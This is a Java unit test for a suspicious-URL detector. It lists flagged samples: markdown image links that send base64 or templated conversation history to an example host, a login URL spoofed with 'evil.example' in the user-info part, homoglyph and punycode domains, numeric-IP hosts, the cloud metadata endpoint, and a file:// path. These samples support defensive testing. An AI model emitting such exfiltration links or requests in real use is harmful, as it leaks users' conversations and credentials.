package io.writ.engine.detect.content;

import static org.assertj.core.api.Assertions.assertThat;

import io.writ.engine.Deadline;
import io.writ.engine.detect.DetectorPlan;
import io.writ.engine.detect.Detectors;
import io.writ.engine.detect.Hit;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlPolicyTest {
  private static final Detectors DETECTORS =
      Detectors.of(new DetectorPlan(Set.of("SUSPICIOUS_URL"), List.of(), List.of(), Set.of()));

  @ParameterizedTest
  @CsvSource({
    "image-data, '![x](https://e.example/p.png?d=bG9uZyBzdG9sZW4gY29udmVyc2F0aW9u)'",
    "image-data, '![x](https://e.example/{{history}})'",
    "user-info, https://bank.example@evil.example/login",
    "punycode, https://xn--pple-43d.example/",
    "number-host, http://2130706433/admin",
    "number-host, http://0x7f000001/",
    "metadata-service, http://169.254.169.254/latest/meta-data",
    "scheme, file:///etc/hostname",
    "mixed-scripts, https://p\u0430ypal.example/",
  })
  void oddUrlsAreFacts(String subtype, String text) {
    assertThat(scan(text)).as(text).extracting(Hit::subtype).contains(subtype);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://example.com/a?b=c#d",
        "![logo](https://example.com/logo.png)",
        "![logo](https://example.com/logo.png?v=3)",
        "[link](https://example.com/?q=a-rather-long-search-for-something)",
        "http://192.168.0.1:8080/",
        "https://\u043f\u0440\u0438\u043c\u0435\u0440.example/",
        "https://m\u00fcnchen.example/",
        "profile: a@b.example",
      })
  void ordinaryUrlsAreNot(String text) {
    assertThat(scan(text)).as(text).isEmpty();
  }

  private static List<Hit> scan(String text) {
    return DETECTORS.scan(text, Deadline.after(60_000, System::nanoTime)).hits();
  }
}
